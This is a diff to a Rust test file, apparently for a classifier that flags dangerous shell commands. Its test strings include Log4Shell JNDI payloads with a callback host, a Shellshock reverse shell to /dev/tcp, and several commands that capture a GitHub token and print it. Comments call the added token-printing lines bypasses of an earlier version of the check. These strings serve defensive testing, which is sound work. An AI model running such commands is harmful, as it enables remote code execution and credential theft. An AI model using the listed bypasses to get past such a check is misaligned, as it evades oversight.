@@ -129,6 +129,9 @@ fn password_attributes_and_exploit_payloads_are_judged_in_any_program() {
             "curl -vvk https://vdi.exmaple.com/portal/info.jsp -H 'Accept-Language: ${jndi:ldap://zcf4r9z7oxec13t7fu1k14n0vr1ip8dx.oastify.com:1337/test}'",
             "wget --header='X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}' https://app.example.com/",
             "curl -A '() { :; }; /bin/bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' http://10.0.0.1/cgi-bin/test.cgi",
+            // Found attacking the mend: a query string carries it
+            // percent-encoded.
+            "curl 'https://app.example.com/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D'",
         ],
         Category::RemoteCodeExec,
         Severity::High,
@@ -187,6 +190,14 @@ fn a_token_captured_into_a_commands_environment_is_used_not_shown() {
             "T=$(gh auth token) bash -c 'echo $T'",
             "T=$(gh auth token) node -e 'console.log(process.env.T)'",
             "T=$(gh auth token) python3 -c 'import os; print(os.environ[\"T\"])'",
+            // Bypasses of the first version of this mend (session 50's
+            // review): programs that print a variable of their
+            // environment, run straight or through a wrapper.
+            "T=$(gh auth token) awk 'BEGIN{print ENVIRON[\"T\"]}'",
+            "T=$(gh auth token) jq -n env.T",
+            "T=$(gh auth token) envsubst < t.txt",
+            "T=$(gh auth token) xargs printenv T",
+            "T=$(gh auth token) nice -n 5 printenv T",
         ],
         Category::CredentialAccess,
         Severity::High,
